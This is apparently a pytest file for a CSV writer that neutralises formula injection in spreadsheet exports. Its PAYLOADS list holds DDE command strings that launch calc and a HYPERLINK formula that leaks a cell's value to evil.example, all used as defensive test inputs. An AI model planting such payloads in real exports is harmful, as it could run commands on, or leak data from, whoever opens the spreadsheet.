"""Spreadsheet-safe CSV: formula starts neutralised, numbers untouched, the change reversible."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracktwo.kernel.safe_csv import (
    FORMULA_STARTS,
    neutralise_cell,
    restore_cell,
    safe_row,
    safe_writer,
)

# The payloads the outside test planted in statements, and the rest of OWASP's list.
PAYLOADS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=1+1",
    "''@x",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_written_as_text(payload: str) -> None:
    buffer = io.StringIO()
    safe_writer(buffer).writerow(["statement", payload, 3])
    (row,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert row[0] == "statement" and row[2] == "3"
    assert row[1].startswith("'")
    assert not row[1].startswith(FORMULA_STARTS)
    # A carriage return in a cell is written as a line feed, so the cell stays quoted.
    assert restore_cell(row[1]) == payload.replace("\r", "\n")


@pytest.mark.parametrize("number", ["-3", "+1", "-0.25", "1e-3", "+1.5E3", ".5", "42"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert neutralise_cell(number) == number


def test_only_text_cells_are_touched() -> None:
    assert safe_row([-3, -2.5, None, True, "-x", "ok"]) == [-3, -2.5, None, True, "'-x", "ok"]


def test_ordinary_text_including_apostrophes_is_unchanged() -> None:
    for text in ["Water first", "'quoted'", "it's fine", "", "a=b", "x-y", "'"]:
        assert neutralise_cell(text) == text
        assert restore_cell(text) == text


def test_writerows_and_options_pass_through() -> None:
    buffer = io.StringIO()
    safe_writer(buffer, delimiter=";").writerows([["=a", "b"], ["c", "@d"]])
    assert buffer.getvalue() == "'=a;b\nc;'@d\n"


@given(st.text(max_size=40))
def test_neutralising_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    safe = neutralise_cell(text)
    assert restore_cell(safe) == text
    if safe.startswith(FORMULA_STARTS):
        assert safe == text  # only plain numbers may keep a sign in front
        assert safe.lstrip("+-")[:1] in "0123456789."


def test_a_carriage_return_inside_a_cell_cannot_end_the_row() -> None:
    buffer = io.StringIO()
    safe_writer(buffer).writerows([["one\rtwo", "x"], ["three\r\nfour", "y"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows == [["one\ntwo", "x"], ["three\nfour", "y"]]
